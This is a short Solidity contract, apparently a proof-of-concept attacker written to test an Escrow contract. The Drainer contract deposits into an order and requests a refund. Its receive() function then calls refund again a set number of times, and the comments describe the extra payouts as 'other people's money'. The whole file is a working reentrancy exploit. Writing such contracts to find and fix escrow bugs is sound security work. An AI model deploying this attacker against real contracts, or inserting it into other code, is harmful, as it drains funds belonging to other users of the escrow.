// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {Escrow} from "../Escrow.sol";

/// @title An attacker: buyer and seller of its own order, it asks for its refund again while it is being paid.
contract Drainer {
    Escrow private immutable ESCROW;
    address private immutable THIEF;
    bytes32 private _orderId;
    uint256 private _times;

    error NotTheThief();

    constructor(Escrow escrow) {
        ESCROW = escrow;
        THIEF = msg.sender;
    }

    /// @notice Deposit the value sent and take it back `times` times over: all but the first is other people's money.
    function drain(bytes32 orderId, uint256 times) external payable {
        if (msg.sender != THIEF) revert NotTheThief();
        (_orderId, _times) = (orderId, times - 1);
        ESCROW.depositFor{value: msg.value}(orderId, address(this));
        ESCROW.refund(orderId);
    }

    receive() external payable {
        if (_times == 0) return;
        _times -= 1;
        ESCROW.refund(_orderId);
    }
}
